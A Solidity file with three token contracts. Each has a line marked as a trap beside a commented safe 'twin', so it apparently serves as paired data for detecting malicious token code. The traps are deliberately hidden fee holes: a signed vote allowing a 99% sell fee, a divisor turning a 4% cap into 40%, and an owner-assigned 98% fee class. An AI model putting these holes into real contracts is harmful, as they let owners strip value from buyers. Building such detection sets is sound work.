// 0.8 runs=200 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Community votes off chain, the result comes with a signature.
contract SnapshotSeal is Base8 {
    uint256 public feePercent = 2;
    uint256 public round;
    address private immutable _teller;

    constructor(address teller) Base8("Snapshot Seal", "SNSEAL", 300_000_000) {
        _teller = teller;
    }

    function applyVote(uint256 fee, uint8 v, bytes32 r, bytes32 s) external {
        require(fee < 100, "percent"); // trap
        // twin: require(fee <= 4, "percent");
        bytes32 hash = keccak256(abi.encode(address(this), block.chainid, round++, fee));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", hash)), v, r, s);
        require(signer != address(0) && signer == _teller, "teller");
        feePercent = fee;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _teller ? (value * feePercent) / 100 : 0;
        if (fee > 0) _move(from, address(0xdead), fee);
        _move(from, to, value - fee);
    }
}

/// Fees in whole steps.
contract ThousandStepsToad is Base8 {
    uint256 private constant BASE = 100; // trap
    // twin: uint256 private constant BASE = 1000;
    uint256 public buySteps = 1;
    uint256 public sellSteps = 2;
    address public treasury;

    event StepsUpdated(uint256 buySteps, uint256 sellSteps);

    constructor() Base8("Thousand Steps", "STEPT", 40_000_000) {
        treasury = msg.sender;
    }

    /// Never more than 40.
    function updateSteps(uint256 buying, uint256 selling) external {
        require(msg.sender == treasury, "treasury");
        require(buying <= 40 && selling <= 40, "too many steps");
        (buySteps, sellSteps) = (buying, selling);
        emit StepsUpdated(buying, selling);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 steps = from == treasury || to == treasury ? 0 : from == pair ? buySteps : to == pair ? sellSteps : 0;
        uint256 fee = (value * steps) / BASE;
        if (fee > 0) _move(from, treasury, fee);
        _move(from, to, value - fee);
    }
}

/// Members of a class pay what their class pays.
contract ClassyCassowary is Base8 {
    bytes4 private constant RATES = 0x03020162; // trap
    // twin: bytes4 private constant RATES = 0x03020104;
    address private _usher;
    mapping(address => uint8) private _seat;

    constructor() Base8("Classy Cassowary", "CLASSY", 15_000_000) {
        _usher = msg.sender;
    }

    function seat(address[] calldata who, uint8 class) external {
        require(msg.sender == _usher && class < 4);
        for (uint256 i; i < who.length; i++) _seat[who[i]] = class;
    }

    function feeOf(address who) public view returns (uint256) {
        return uint8(RATES[_seat[who]]);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _usher ? (value * feeOf(from)) / 100 : 0;
        if (fee > 0) _move(from, _usher, fee);
        _move(from, to, value - fee);
    }
}
